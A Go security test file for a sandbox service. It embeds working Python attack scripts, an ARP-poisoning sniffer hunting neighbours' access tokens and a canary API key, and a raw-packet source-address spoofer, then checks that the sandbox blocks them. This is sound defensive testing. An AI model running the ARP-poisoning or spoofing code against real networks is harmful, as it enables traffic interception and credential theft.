package security

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/cubby-dev/cubby/internal/network"
	"github.com/cubby-dev/cubby/internal/testenv/testnetns"
	"github.com/cubby-dev/cubby/internal/testenv/testserver"
	"github.com/cubby-dev/cubby/sdk"
)

// The tests in this file are the network findings of the review, replayed by
// root inside real sandboxes: raw and packet sockets, forged ARP against a
// neighbour (to read its access token, files and the /init of its resume), and
// forged source addresses out of a sandbox without internet access.

// netProbe is a Python program run as root (or user) inside a sandbox; it
// prints one JSON object. Helpers: errno(f) runs f and returns 0 or the errno.
const netProbe = `
import json, os, socket, struct, subprocess, sys, time
def errno(f):
    try:
        f()
        return 0
    except OSError as e:
        return e.errno
def route():
    dflt = [l.split() for l in open("/proc/net/route") if l.split()[1] == "00000000"]
    gw = socket.inet_ntoa(struct.pack("<L", int(dflt[0][2], 16)))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((gw, 9))
    return s.getsockname()[0], gw
`

// probe runs netProbe followed by body as user in sbx with command-line
// arguments args and decodes the JSON its last output line holds.
func probe(t *testing.T, sbx *sdk.Sandbox, user string, args []string, body string, out any) {
	t.Helper()
	res := run(t, sbx, user, pythonCmd(args, body))
	if res.Code != 0 || json.Unmarshal([]byte(lastLine(res.Out)), out) != nil {
		t.Fatalf("probe as %q: exit %d: %s", user, res.Code, res.Out)
	}
}

// pythonCmd is the shell command running netProbe + body with args.
func pythonCmd(args []string, body string) string {
	return "python3 - " + strings.Join(args, " ") + " <<'EOF'\n" + netProbe + body + "\nEOF"
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

// TestNetworkRawSocketsRefused: root cannot open raw or packet sockets nor
// change the sandbox's address or MAC; ping still works through ICMP datagram
// sockets (for root and the default user), but not towards the gateway. Under
// runc and, when bin/runsc is next to the server binary, gVisor.
func TestNetworkRawSocketsRefused(t *testing.T) {
	for _, rt := range runtimes(t) {
		t.Run(rt, func(t *testing.T) {
			s := startServer(t, "--runtime", rt)
			sbx := s.create(t, "")
			checkRawSockets(t, sbx)
			t.Run("ping", func(t *testing.T) { checkPing(t, sbx, rt == "runc") })
		})
	}
}

// runtimes lists the OCI runtimes the server next to CUBBY_BIN can use.
func runtimes(t *testing.T) []string {
	rts := []string{"runc"}
	if _, err := os.Stat(filepath.Join(filepath.Dir(os.Getenv("CUBBY_BIN")), "runsc")); err == nil {
		rts = append(rts, "runsc")
	} else {
		t.Logf("gVisor not covered: %v", err)
	}
	return rts
}

func checkRawSockets(t *testing.T, sbx *sdk.Sandbox) {
	var got map[string]int
	probe(t, sbx, "root", nil, `
print(json.dumps({
  "raw_icmp": errno(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
  "raw_ip": errno(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)),
  "packet": errno(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
  "packet_dgram": errno(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0806))),
  "icmp_dgram": errno(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
}))`, &got)
	for _, k := range []string{"raw_icmp", "raw_ip", "packet", "packet_dgram"} {
		if got[k] != int(unix.EPERM) {
			t.Errorf("%s socket as root: errno %d, want EPERM (%d)", k, got[k], unix.EPERM)
		}
	}
	if got["icmp_dgram"] != 0 {
		t.Errorf("ICMP datagram socket as root: errno %d, want it allowed (ping without CAP_NET_RAW)", got["icmp_dgram"])
	}
	for _, cmd := range []string{"ip link set dev eth0 address 02:00:00:00:00:66", "ip addr add 10.1.2.3/32 dev eth0",
		"ip link set dev eth0 down", "ip neigh replace 10.1.2.4 lladdr 02:00:00:00:00:67 dev eth0"} {
		if r := asRoot(t, sbx, cmd); r.Code == 0 || !strings.Contains(r.Out, "Operation not permitted") {
			t.Errorf("%q as root: exit %d %q, want Operation not permitted", cmd, r.Code, r.Out)
		}
	}
}

// checkPing: the default user pings loopback and, with own, the sandbox's own
// address (ICMP datagram sockets; gVisor's netstack never answers an echo to
// its own eth0 address, with or without this change); the gateway does not answer.
func checkPing(t *testing.T, sbx *sdk.Sandbox, own bool) {
	var addrs struct{ Own, Gw string }
	probe(t, sbx, "", nil, `own, gw = route()
print(json.dumps({"own": own, "gw": gw}))`, &addrs)
	dsts := []string{"127.0.0.1"}
	if own {
		dsts = append(dsts, addrs.Own)
	}
	for _, dst := range dsts {
		r := run(t, sbx, "", "ping -c 1 -W 5 "+dst)
		if r.Code == 126 {
			t.Fatalf("ping cannot be executed (%s): the template predates build recipe v2, which removes "+
				"file capabilities sandboxes cannot grant (cap_net_raw+ep); rebuild it (make templates)", strings.TrimSpace(r.Out))
		}
		if r.Code != 0 || !strings.Contains(r.Out, "1 received") {
			t.Errorf("ping %s as user: exit %d: %s", dst, r.Code, r.Out)
		}
	}
	if r := run(t, sbx, "", "ping -c 2 -W 2 "+addrs.Gw); r.Code == 0 || strings.Contains(r.Out, " 0% packet loss") {
		t.Errorf("ping gateway %s answered: %s", addrs.Gw, r.Out)
	}
}

// arpAttack poisons the host's view of the victim's address and of the
// gateway with forged ARP (gratuitous requests and replies, and replies sent
// to the gateway) and sniffs for frames to the victim, counting those carrying
// an access token header or the canary; without packet sockets it tries what
// is left (its own address set to the victim's, a listener on the victim's
// envd address). It runs until /tmp/stop exists (at most 120 s).
const arpAttack = `
own, gw = route()
victim, canary = sys.argv[1], sys.argv[2].encode()
res = {"stolen": 0, "secrets": 0, "accepted": 0}
res["addr_add"] = subprocess.call(["ip", "addr", "add", victim + "/32", "dev", "eth0"], stderr=subprocess.DEVNULL)
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
res["listen"] = errno(lambda: (l.bind((victim, 49983)), l.listen(), l.settimeout(0.05)))
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("eth0", 0)); s.settimeout(0.05)
    res["packet"] = 0
except OSError as e:
    s, res["packet"] = None, e.errno
arp = {l.split()[0]: l.split()[3] for l in list(open("/proc/net/arp"))[1:]}
gwmac = bytes.fromhex(arp.get(gw, "ff:ff:ff:ff:ff:ff").replace(":", ""))
def frame(dst, op, sip, tip, mine):
    return dst + mine + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, op) + mine + sip + b"\xff" * 6 + tip
end = time.time() + 120
while time.time() < end and not os.path.exists("/tmp/stop"):
    if s:
        mine = s.getsockname()[4]
        for claim in (socket.inet_aton(victim), socket.inet_aton(gw)):
            for dst, op, tip in ((b"\xff" * 6, 1, claim), (b"\xff" * 6, 2, claim), (gwmac, 2, socket.inet_aton(gw))):
                s.send(frame(dst, op, claim, tip, mine))
        stop = time.time() + 0.2
        while time.time() < stop:
            try:
                f = s.recv(65535)
            except socket.timeout:
                continue
            if len(f) >= 34 and f[12:14] == b"\x08\x00" and f[30:34] == socket.inet_aton(victim):
                res["stolen"] += 1
                res["secrets"] += (b"X-Access-Token" in f or b"accessToken" in f or canary in f)
    else:
        time.sleep(0.2)
    if res["listen"] == 0:
        try:
            l.accept()[0].close(); res["accepted"] += 1
        except OSError:
            pass
print(json.dumps(res))
`

// TestNetworkForgedARPNoHijack: while a neighbour poisons ARP with every
// means left to root, the victim keeps serving its files and commands
// correctly, survives a pause to disk and a resume (whose /init carries its
// env vars and access token) with its env var intact, and the attacker sees
// none of its traffic.
func TestNetworkForgedARPNoHijack(t *testing.T) {
	s := startServer(t)
	canary := "sk-canary-" + testserver.RandHex(8)
	victim := s.createWith(t, &sdk.CreateOptions{Envs: map[string]string{"OPENAI_API_KEY": canary}})
	attacker := s.create(t, "")
	var v struct{ Own string }
	probe(t, victim, "", nil, `print(json.dumps({"own": route()[0]}))`, &v)
	done := make(chan result, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		res, err := attacker.Commands.Run(ctx, pythonCmd([]string{v.Own, canary}, arpAttack), &sdk.CommandOptions{User: "root", Timeout: 170 * time.Second})
		if err != nil {
			done <- result{Out: err.Error(), Code: -1}
			return
		}
		done <- result{Out: res.Stdout + res.Stderr}
	}()
	time.Sleep(3 * time.Second) // the finding: redirected within 3 s
	start := time.Now()
	victimErr := useVictim(victim, canary, 5*time.Second)
	t.Logf("victim used for %s under attack", time.Since(start).Round(time.Millisecond))
	stopCtx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	_, stopErr := attacker.Files.Write(stopCtx, "/tmp/stop", []byte("1"), nil)
	out := <-done
	var got struct {
		Packet, Stolen, Secrets, Accepted, Listen int
		AddrAdd                                   int `json:"addr_add"`
	}
	if out.Code != 0 || json.Unmarshal([]byte(lastLine(out.Out)), &got) != nil {
		t.Fatalf("attacker script: %d %s (stop: %v)", out.Code, out.Out, stopErr)
	}
	t.Logf("attacker: %+v", got)
	if victimErr != nil {
		t.Errorf("victim under ARP attack: %v", victimErr)
	}
	if got.Stolen != 0 || got.Secrets != 0 || got.Accepted != 0 {
		t.Errorf("attacker received the victim's traffic: %d packets, %d with its token or env, %d connections", got.Stolen, got.Secrets, got.Accepted)
	}
	s.healthy(t)
}

// useVictim writes, reads and cats files in sbx for at least busyFor, pauses
// it to disk, resumes it and checks its env var; the first failure is returned.
func useVictim(sbx *sdk.Sandbox, canary string, busyFor time.Duration) error {
	step := func(what string, f func(ctx context.Context) error) error {
		ctx, cancel := context.WithTimeout(context.Background(), 45*time.Second)
		defer cancel()
		if err := f(ctx); err != nil {
			return fmt.Errorf("%s: %w", what, err)
		}
		return nil
	}
	for end, i := time.Now().Add(busyFor), 0; time.Now().Before(end); i++ {
		name, want := fmt.Sprintf("/home/user/f%d.txt", i), fmt.Sprintf("content %d %s", i, testserver.RandHex(4))
		err := step("write/read "+name, func(ctx context.Context) error {
			if _, err := sbx.Files.Write(ctx, name, []byte(want), nil); err != nil {
				return err
			}
			b, err := sbx.Files.Read(ctx, name, nil)
			if err == nil && string(b) != want {
				err = fmt.Errorf("read %q, want %q", b, want)
			}
			return err
		})
		if err == nil {
			err = step("cat "+name, func(ctx context.Context) error { return expectOut(ctx, sbx, "cat "+name, want) })
		}
		if err != nil {
			return err
		}
	}
	if err := step("pause to disk", func(ctx context.Context) error {
		_, err := sbx.Pause(ctx, &sdk.PauseOptions{KeepMemory: new(false)})
		return err
	}); err != nil {
		return err
	}
	if err := step("resume", func(ctx context.Context) error { return sbx.Resume(ctx, nil) }); err != nil {
		return err
	}
	return step("env after resume", func(ctx context.Context) error { return expectOut(ctx, sbx, "echo -n $OPENAI_API_KEY", canary) })
}

func expectOut(ctx context.Context, sbx *sdk.Sandbox, cmd, want string) error {
	res, err := sbx.Commands.Run(ctx, cmd, nil)
	if err == nil && res.Stdout != want {
		err = fmt.Errorf("%q printed %q, want %q", cmd, res.Stdout, want)
	}
	return err
}

// spoofAttack sends one UDP datagram to sys.argv[1]:sys.argv[2] per way a
// root process might forge its source (argv[3] is the neighbour's address),
// payload = the way's name, and prints the errno each way met (0 = sent).
const spoofAttack = `
own, gw = route()
dst, nbr = (sys.argv[1], int(sys.argv[2])), sys.argv[3]
def raw(src, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    udp = struct.pack("!HHHH", 40000, dst[1], 8 + len(name), 0) + name.encode()
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst[0]))
    s.sendto(ip + udp, (dst[0], 0))
def bound(opt, src, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if opt:
        s.setsockopt(socket.IPPROTO_IP, opt, 1)
    s.bind((src, 0)); s.sendto(name.encode(), dst)
print(json.dumps({
  "raw-neighbour": errno(lambda: raw(nbr, "raw-neighbour")),
  "raw-public": errno(lambda: raw("198.51.100.7", "raw-public")),
  "raw-gateway": errno(lambda: raw(gw, "raw-gateway")),
  "transparent-neighbour": errno(lambda: bound(19, nbr, "transparent-neighbour")),
  "freebind-neighbour": errno(lambda: bound(15, nbr, "freebind-neighbour")),
  "own": errno(lambda: bound(0, own, "own")),
}))
`

// TestNetworkForgedSourceStaysInside: a sandbox without internet access tries
// every way root has to send with a forged source (the neighbour's address,
// which may go out, a public one, the gateway's) to an "internet" host behind
// the host's masquerade; nothing arrives there, while the neighbour's own
// datagram does, masqueraded.
func TestNetworkForgedSourceStaysInside(t *testing.T) {
	s := startServer(t)
	inet := newInternet(t)
	closed := s.createWith(t, &sdk.CreateOptions{AllowInternetAccess: new(false)})
	open := s.create(t, "")
	var nbr struct{ Own string }
	probe(t, open, "", nil, `print(json.dumps({"own": route()[0]}))`, &nbr)
	dst := []string{inet.Addr.Addr().String(), fmt.Sprint(inet.Addr.Port())}
	var tried map[string]int
	probe(t, closed, "root", append(dst, nbr.Own), spoofAttack, &tried)
	var sent map[string]int
	probe(t, open, "", dst, `dst = (sys.argv[1], int(sys.argv[2]))
print(json.dumps({"legit": errno(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"legit", dst))}))`, &sent)
	got := inet.Await("legit", 10*time.Second, time.Second)
	t.Logf("attempts (errno, 0 = sent): %v; arrived (payload: source): %v", tried, got)
	if got["legit"] != inet.host.String() {
		t.Errorf("the neighbour's own datagram arrived from %q, want masqueraded to %s (send errno %d)", got["legit"], inet.host, sent["legit"])
	}
	for payload, from := range got {
		if payload != "legit" {
			t.Errorf("%s left the sandbox without internet access and arrived from %s", payload, from)
		}
	}
}

// internet is a network namespace standing in for a host on the internet,
// reached from the host over a veth in a free /24 (host end .1, its end .2),
// with reverse-path filtering off so it takes any source, and a UDP sink.
type internet struct {
	*testnetns.UDPSink
	host netip.Addr // the host's address towards it: masqueraded sources show it
}

func newInternet(t *testing.T) *internet {
	t.Helper()
	subnet, err := testserver.FreeSubnet()
	if err != nil {
		t.Fatal(err)
	}
	host := netip.MustParsePrefix(subnet).Addr().Next()
	far, name := host.Next(), "cbsi"+testserver.RandHex(3)
	t.Cleanup(func() {
		_ = exec.Command("ip", "link", "del", name).Run()
		_ = exec.Command("ip", "netns", "del", name).Run()
	})
	for _, args := range [][]string{{"netns", "add", name},
		{"link", "add", name, "type", "veth", "peer", "name", "up0", "netns", name},
		{"addr", "add", host.String() + "/24", "dev", name}, {"link", "set", name, "up"},
		{"-n", name, "addr", "add", far.String() + "/24", "dev", "up0"}, {"-n", name, "link", "set", "up0", "up"},
		{"netns", "exec", name, "sh", "-c", "echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter; echo 0 > /proc/sys/net/ipv4/conf/up0/rp_filter"},
	} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %v: %v: %s", args, err, out)
		}
	}
	testnetns.WaitUp(t, name)
	return &internet{UDPSink: testnetns.ListenUDP(t, filepath.Join(network.DefaultNetnsDir, name), far), host: host}
}
